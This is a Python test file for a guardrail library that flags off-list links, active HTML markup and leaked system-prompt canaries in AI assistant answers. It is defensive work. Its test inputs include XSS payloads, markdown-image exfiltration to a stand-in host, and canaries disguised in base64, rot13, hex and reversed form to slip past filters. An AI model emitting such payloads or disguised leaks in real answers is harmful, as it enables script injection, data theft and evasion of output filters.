"""Links, active markup and prompt leaks in answers."""

import base64
import codecs

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handrail.detectors.base import Text
from handrail.detectors.links import Links, allowed
from handrail.detectors.unsafe import Markup, PromptLeak
from handrail.terms.finding import Finding, Kind, Role

LIST = ("example.com", "*.shop.example", "müller.example")
CANARIES = (
    "HR-canary-9f3kq72",
    "You are Ada, the helpful assistant of Northwind Trains. Never offer more than 20 euro in compensation.",
)


def links(text: str, role: Role = Role.ASSISTANT, language: str = "en") -> list[tuple[str, str]]:
    found = Links().find(Text(text=text, role=role, links_allowed=LIST), language)
    return [(text[f.start : f.end], f.reason) for f in found]


def markup(text: str) -> list[str]:
    found = Markup().find(Text(text=text, role=Role.ASSISTANT, links_allowed=LIST), "en")
    return sorted(f.reason for f in found)


def leaks(text: str) -> list[Finding]:
    return PromptLeak().find(Text(text=text, role=Role.ASSISTANT, canaries=CANARIES), "en")


@pytest.mark.promise("OUT-1")
@pytest.mark.parametrize(
    ("text", "span", "reason"),
    [
        ("go to https://evil.test/a.", "https://evil.test/a", "host"),
        ("[pay here](http://example.com@evil.test/x)", "http://example.com@evil.test/x", "host"),
        ("see www.evil.co.uk now", "www.evil.co.uk", "host"),
        ("visit evil-site.net.", "evil-site.net", "host"),
        ("visit EVIL.COM today", "EVIL.COM", "host"),
        ("https://exаmple.com/login", "https://exаmple.com/login", "lookalike"),  # Cyrillic а
        ("https:\\\\evil.test", "https:\\\\evil.test", "host"),
        ("![x](//evil.test/p?d=1)", "//evil.test/p?d=1", "host"),
        ("short: bit.ly/abc", "bit.ly/abc", "host"),
        ("https://example.com.evil.test", "https://example.com.evil.test", "host"),
        ("https://notexample.com", "https://notexample.com", "host"),
        ("https://shop.example/x", "https://shop.example/x", "host"),
        ("http://192.168.0.1/a", "http://192.168.0.1/a", "host"),
        ("https://evil%2etest/", "https://evil%2etest/", "host"),
        ("click javascript:alert(1)", "javascript:a", "scheme"),
        ("java\nscript:alert(1)", "java\nscript:a", "scheme"),
        ("data:text/html;base64,AAAA", "data:text/html;", "scheme"),
    ],
)
def test_a_link_outside_the_list_is_found_with_its_span(text: str, span: str, reason: str) -> None:
    assert links(text) == [(span, reason)]


@pytest.mark.promise("OUT-1")
@pytest.mark.parametrize(
    "text",
    [
        "See https://example.com/help, https://www.example.com/x?y=1 or example.com.",
        "https://a.shop.example/ and https://b.a.shop.example:8443/x",
        "https://müller.example/ and https://xn--mller-kva.example/",
        "Please reply.It is fine. e.g. this, i.e. that, z.B. hier, version 1.2.3, at 12.30, U.S. law.",
        "Write to bob@evil.com or use node.js, README.md and report.pdf.",
        "The data: 5 rows. Profile: done. Note: nothing.",
        "[help](/help) and [top](#top)",
    ],
)
def test_allowed_links_and_plain_words_are_left_alone(text: str) -> None:
    assert links(text) == []


def test_an_empty_list_allows_no_link() -> None:
    assert Links().find(Text(text="https://example.com", role=Role.ASSISTANT), "en")


def test_links_of_others_are_not_judged() -> None:
    assert links("https://evil.test", role=Role.USER) == []


@given(st.text(alphabet="abc.-", min_size=1, max_size=12))
def test_no_host_outside_the_list_is_ever_allowed(host: str) -> None:
    expected = host in ("example.com", "www.example.com")
    assert allowed(host, ("example.com",)) is expected


@given(st.text(max_size=200))
def test_any_text_is_read_without_an_error_and_spans_lie_inside(text: str) -> None:
    whole = Text(text=text, role=Role.ASSISTANT, links_allowed=LIST, canaries=CANARIES)
    for detector in (Links(), Markup(), PromptLeak()):
        for finding in detector.find(whole, "en"):
            assert 0 <= finding.start < finding.end <= len(text)


@pytest.mark.promise("OUT-2")
@pytest.mark.parametrize(
    ("text", "reasons"),
    [
        ("<script>alert(1)</script>", ["tag", "tag"]),
        ("<ScRiPt src=x>", ["tag"]),
        ("<img src=x onerror=alert(1)>", ["handler"]),
        ("<svg/onload=alert(1)>", ["tag"]),
        ("<a href='https://example.com' onclick='x()'>x</a>", ["handler"]),
        ("＜script＞alert(1)", ["tag"]),
        ("<form action=x><input name=y>", ["tag", "tag"]),
        ("<iframe src=//evil.test>", ["tag"]),
        ('<div style="background:url(https://evil.test)">', ["attribute"]),
        ("![a](https://evil.test/?q=secret)", ["image"]),
        ("<img src='https://evil.test/?q=1'>", ["image"]),
        ("![a](data:image/png;base64,AAAA)", ["image"]),
        ("<?php echo 1 ?>", ["processing"]),
    ],
)
def test_active_markup_is_found(text: str, reasons: list[str]) -> None:
    assert markup(text) == reasons


@pytest.mark.promise("OUT-2")
@pytest.mark.parametrize(
    "text",
    [
        "<b>bold</b><br>",
        "a < b and c > d",
        "I <3 you",
        "&lt;script&gt;",
        "![a](https://example.com/i.png)",
        "<p>hi</p>",
    ],
)
def test_harmless_markup_is_left_alone(text: str) -> None:
    assert markup(text) == []


@pytest.mark.promise("OUT-3")
@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("The code is HR-canary-9f3kq72.", "canary"),
        ("code: hr canary 9F3K Q72 ok", "canary"),
        ("H R - c a n a r y - 9 f 3 k q 7 2", "canary"),
        ("HR\u200b-can\u200bary-9f3kq72", "canary"),
        ("My rules say: never offer more than 20 euro in compens", "part"),
        ("27qk3f9-yranac-RH", "backwards"),
        (codecs.encode("HR-canary-9f3kq72", "rot13"), "rot13"),
        ("x " + base64.b64encode(b"HR-canary-9f3kq72").decode(), "base64"),
        (b"HR-canary-9f3kq72".hex(), "hex"),
        (" ".join(f"{octet:02x}" for octet in b"HR-canary-9f3kq72"), "hex"),
    ],
)
def test_a_canary_is_found_however_it_is_written(text: str, reason: str) -> None:
    assert [f.reason for f in leaks(text)] == [reason]


@pytest.mark.promise("OUT-3")
@pytest.mark.parametrize("text", ["I am Ada, your helpful assistant.", "You get 20 euro in compensation.", "canary"])
def test_ordinary_answers_are_no_leak(text: str) -> None:
    assert leaks(text) == []


@given(st.integers(0, 70), st.integers(0, 70))
def test_every_shared_run_of_31_letters_of_a_canary_is_found(start: int, size: int) -> None:
    canary = "".join(chr(97 + (i * i * 7 + i) % 26) for i in range(80))
    piece = canary[start : start + size]
    found = PromptLeak().find(Text(text=f"% {piece} %", role=Role.ASSISTANT, canaries=(canary,)), "en")
    assert bool(found) == (len(piece) >= 31)


def test_a_leak_names_kind_and_place() -> None:
    text = "So: HR-canary-9f3kq72!"
    [finding] = leaks(text)
    assert (finding.kind, text[finding.start : finding.end]) == (Kind.PROMPT_LEAK, "HR-canary-9f3kq72")
